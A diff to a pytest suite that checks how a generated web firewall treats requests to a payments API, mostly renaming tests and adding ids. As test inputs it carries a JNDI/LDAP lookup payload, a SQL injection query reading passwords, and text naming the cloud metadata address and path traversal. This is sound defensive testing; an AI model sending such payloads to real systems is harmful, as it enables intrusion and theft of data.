@@ -1,4 +1,4 @@
-"""What the synthesized web ACL does to requests, in front of a real listener and a real upstream."""
+"""What the synthesized web ACL does to requests, in front of a real listener and a real target."""
 
 import asyncio
 import copy
@@ -10,15 +10,15 @@ from typing import Any
 import pytest
 from aiohttp import ClientSession
 
-from stages.firewall import BODY_LIMIT, RATE_LIMIT_PER_IP, RATE_LIMIT_PER_KEY
+from stages.service.firewall import BODY_LIMIT, RATE_LIMIT_PER_IP, RATE_LIMIT_PER_KEY
 from tests.rehearsal.elbv2.harness import Harness, echo, run_scenario
 from tests.stages.model import Templates
 
 pytestmark = pytest.mark.rehearsal
 
 PROBLEMS = {403: "request_blocked", 413: "content_too_large", 429: "too_many_requests"}
+#: Rate limit of the tests, instead of 30,000.
 LIMIT = 10
-"""What the rates of 30,000 are scaled down to."""
 
 
 @pytest.fixture
@@ -60,7 +60,7 @@ async def ask(client: ClientSession, method: str, path: str, **options: Any) -> 
         {"path": "/v1/payments", "headers": {"Idempotency-Key": "${jndi:ldap://192.0.2.1/a}"}},
     ],
 )
-def test_attacks_are_answered_with_a_problem(play: Callable[..., None], options: dict[str, Any]) -> None:
+def test_attacks_are_rejected_with_a_problem(play: Callable[..., None], options: dict[str, Any]) -> None:
     async def scenario(harness: Harness) -> None:
         await harness.target(echo)
         async with harness.client() as client:
@@ -69,7 +69,7 @@ def test_attacks_are_answered_with_a_problem(play: Callable[..., None], options:
     play(scenario)
 
 
-def test_an_attack_is_blocked_whatever_the_body_says_besides(play: Callable[..., None]) -> None:
+def test_an_attack_is_blocked_despite_an_exempt_body(play: Callable[..., None]) -> None:
     async def scenario(harness: Harness) -> None:
         await harness.target(echo)
         path = "/v1/payments?reference=1'%20UNION%20SELECT%20password%20FROM%20users--"
@@ -88,9 +88,10 @@ def test_an_attack_is_blocked_whatever_the_body_says_besides(play: Callable[...,
         "see ../../manual.pdf at http://192.0.2.1/ or http://169.254.169.254/",
         "${jndi:ldap://192.0.2.1/a}",
     ],
+    ids=["quotes", "sql", "script", "paths", "jndi"],
 )
-@pytest.mark.parametrize("path", ["/v1/payments", "/v1/processors/stripe/webhooks"])
-def test_legal_bodies_pass_whatever_their_text_says(play: Callable[..., None], path: str, text: str) -> None:
+@pytest.mark.parametrize("path", ["/v1/payments", "/v1/processors/stripe/webhooks"], ids=["payment", "webhook"])
+def test_free_text_in_bodies_passes(play: Callable[..., None], path: str, text: str) -> None:
     async def scenario(harness: Harness) -> None:
         await harness.target(echo)
         payment = {"amount": 100, "currency": "EUR", "description": text, "metadata": {"note": text}}
@@ -100,7 +101,7 @@ def test_legal_bodies_pass_whatever_their_text_says(play: Callable[..., None], p
     play(scenario)
 
 
-def test_clients_that_do_not_name_themselves_are_served(play: Callable[..., None]) -> None:
+def test_clients_without_a_user_agent_are_served(play: Callable[..., None]) -> None:
     async def scenario(harness: Harness) -> None:
         await harness.target(echo)
         async with harness.client() as client:
@@ -109,7 +110,7 @@ def test_clients_that_do_not_name_themselves_are_served(play: Callable[..., None
     play(scenario)
 
 
-def test_the_largest_body_passes_and_one_byte_more_does_not(play: Callable[..., None]) -> None:
+def test_the_body_limit_is_exact(play: Callable[..., None]) -> None:
     async def scenario(harness: Harness) -> None:
         await harness.target(echo)
         async with harness.client() as client:
@@ -121,9 +122,7 @@ def test_the_largest_body_passes_and_one_byte_more_does_not(play: Callable[..., 
 
 
 @pytest.mark.parametrize("rule", ["rate-limit-ip", "rate-limit-key"])
-def test_who_is_too_fast_is_told_when_to_come_back_and_is_served_then(
-    each: Templates, tmp_path: Path, rule: str
-) -> None:
+def test_a_rate_limited_client_is_served_later(each: Templates, tmp_path: Path, rule: str) -> None:
     async def scenario(harness: Harness) -> None:
         await harness.target(echo)
         async with harness.client() as client:
@@ -139,7 +138,7 @@ def test_who_is_too_fast_is_told_when_to_come_back_and_is_served_then(
     run_scenario(tmp_path, scenario, web_acl=scaled(described(each), **{rule: LIMIT}))
 
 
-def test_the_rates_are_what_a_busy_merchant_needs(each: Templates, tmp_path: Path) -> None:
+def test_the_rate_limits_suit_a_busy_merchant(each: Templates, tmp_path: Path) -> None:
     async def scenario(harness: Harness) -> None:
         await harness.target(echo)
         async with harness.client() as client:
